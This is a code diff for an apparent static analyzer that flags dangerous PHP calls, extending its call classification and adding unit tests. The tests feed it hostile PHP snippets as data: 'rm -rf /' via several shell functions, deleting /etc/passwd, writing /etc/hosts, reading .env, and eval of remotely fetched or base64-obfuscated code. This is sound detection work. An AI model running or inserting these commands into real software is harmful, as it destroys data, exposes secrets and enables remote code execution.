@@ -12,11 +12,73 @@ pub(super) fn act(name: &str) -> Option<Act> {
             "file_put_contents" | "touch" | "chmod" | "mkdir" => Act::Write,
             "file_get_contents" | "readfile" | "file" => Act::Read,
             "fopen" => Act::Open,
-            "copy" | "symlink" => Act::Copy,
+            "copy" | "symlink" | "link" => Act::Copy,
             "rename" => Act::Move,
-            "fsockopen" => Act::Connect,
+            "curl_init" => Act::Fetch(""),
+            "fsockopen" | "stream_socket_client" => Act::Connect,
             "eval" | "assert" => Act::Eval,
             _ => return None,
         },
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::code::check;
+    use crate::reading::Language::Php;
+
+    #[test]
+    fn acts() {
+        check(Php, "system('rm -rf /');", &["shell rm -rf /"]);
+        check(
+            Php,
+            "<?php $d = '/'; shell_exec(\"rm -rf $d\"); ?>",
+            &["shell rm -rf /"],
+        );
+        check(Php, "echo `rm -rf /`;", &["shell rm -rf /"]);
+        check(Php, "exec('rm ' . '-rf /');", &["shell rm -rf /"]);
+        check(Php, "$f = 'sys' . 'tem'; $f('id');", &["shell id"]);
+        check(Php, "unlink('/etc/passwd');", &["delete /etc/passwd"]);
+        check(
+            Php,
+            "file_put_contents('/etc/hosts', 'x', FILE_APPEND);",
+            &["write /etc/hosts"],
+        );
+        check(Php, "echo file_get_contents('.env');", &["read .env"]);
+        check(
+            Php,
+            "eval(file_get_contents('https://h.example/x'));",
+            &["remote code https://h.example/x", "GET https://h.example/x"],
+        );
+        check(
+            Php,
+            "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
+            &["shell id"],
+        );
+        check(
+            Php,
+            "system(<<<EOF\nrm -rf /\nEOF\n);",
+            &["shell rm -rf /\n"],
+        );
+    }
+
+    #[test]
+    fn data() {
+        check(Php, "echo 'rm -rf /';", &[]);
+        check(
+            Php,
+            "// system('rm')\n# system('rm')\n/* system('rm') */",
+            &[],
+        );
+        check(
+            Php,
+            "$a = ['system' => 'rm -rf /']; $db->exec('SELECT 1');",
+            &[],
+        );
+        check(
+            Php,
+            "text system('rm -rf /') outside <?php echo 1; ?> system('rm')",
+            &["shell rm -rf /"],
+        );
+    }
 }
